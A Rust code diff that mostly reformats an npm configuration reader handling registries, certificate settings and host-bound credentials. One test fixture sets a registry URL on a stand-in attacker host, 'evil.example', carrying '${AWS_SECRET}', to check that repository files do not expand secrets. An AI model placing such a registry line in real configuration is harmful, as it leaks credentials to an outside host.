@@ -54,8 +54,12 @@ pub(super) fn of_user(texts: &[(&str, &str)], environment: &BTreeMap<String, Str
     for (key, (value, source)) in &settings {
         match key.as_str() {
             "cafile" if !value.is_empty() && value != "null" => user.cafile = Some(value.clone()),
-            "strict-ssl" if value == "false" => user.notes.push(format!("strict-ssl=false of {source} is not followed: certificates are always checked")),
-            "_auth" | "_authToken" | "_password" => user.notes.push(format!("`{key}` of {source} is not used: it is bound to no host; write `//HOST/:{key}=…`")),
+            "strict-ssl" if value == "false" => user
+                .notes
+                .push(format!("strict-ssl=false of {source} is not followed: certificates are always checked")),
+            "_auth" | "_authToken" | "_password" => user
+                .notes
+                .push(format!("`{key}` of {source} is not used: it is bound to no host; write `//HOST/:{key}=…`")),
             key if key.starts_with("//") => {}
             key => user.registries.take(key, value.clone()),
         }
@@ -96,7 +100,8 @@ fn credentials(settings: &BTreeMap<String, (String, &str)>, notes: &mut Vec<Stri
     for kind in ["_authToken", "_auth", "_password", "certfile"] {
         for (key, (value, source)) in settings {
             let Some(place) = key.strip_suffix(kind).and_then(|rest| rest.strip_suffix(':')) else { continue };
-            let Some(url) = place.strip_prefix("//").and_then(|place| Url::parse(&format!("https://{place}")).ok()) else {
+            let Some(url) = place.strip_prefix("//").and_then(|place| Url::parse(&format!("https://{place}")).ok())
+            else {
                 continue;
             };
             let setting = format!("{source} (`{place}:{kind}`)");
@@ -112,7 +117,8 @@ fn credentials(settings: &BTreeMap<String, (String, &str)>, notes: &mut Vec<Stri
                     let password = STANDARD.decode(value).ok().and_then(|bytes| String::from_utf8(bytes).ok());
                     match (settings.get(&format!("{place}:username")), password) {
                         (Some((user, _)), Some(password)) => credentials.add_password(&url, user, &password, &setting),
-                        _ => notes.push(format!("{setting} is not used: it needs `username` beside it, and to be base64")),
+                        _ => notes
+                            .push(format!("{setting} is not used: it needs `username` beside it, and to be base64")),
                     }
                 }
             }
@@ -173,8 +179,11 @@ mod tests {
 
     #[test]
     fn a_repository_s_file_gives_registries_only_and_fills_nothing_in() {
-        let found = of_project("registry=https://evil.example/?${AWS_SECRET}\n@a:registry=https://a.example/\n//a.example/:_authToken=x\n");
-        let expect = NpmRegistries { registry: None, scopes: [("@a".to_owned(), "https://a.example/".to_owned())].into() };
+        let found = of_project(
+            "registry=https://evil.example/?${AWS_SECRET}\n@a:registry=https://a.example/\n//a.example/:_authToken=x\n",
+        );
+        let expect =
+            NpmRegistries { registry: None, scopes: [("@a".to_owned(), "https://a.example/".to_owned())].into() };
         assert_eq!(found, expect);
     }
 
@@ -202,7 +211,9 @@ mod tests {
     #[test]
     fn variables_are_filled_in_as_npm_does() {
         let environment = [("A".to_owned(), "1".to_owned())].into();
-        for (text, expect) in [("x${A}y${A}", "x1y1"), ("${B?}z", "z"), ("${B}z", "${B}z"), ("\\${A}", "${A}"), ("${A", "${A")] {
+        for (text, expect) in
+            [("x${A}y${A}", "x1y1"), ("${B?}z", "z"), ("${B}z", "${B}z"), ("\\${A}", "${A}"), ("${A", "${A")]
+        {
             assert_eq!(expanded(text, &environment), expect, "{text}");
         }
     }
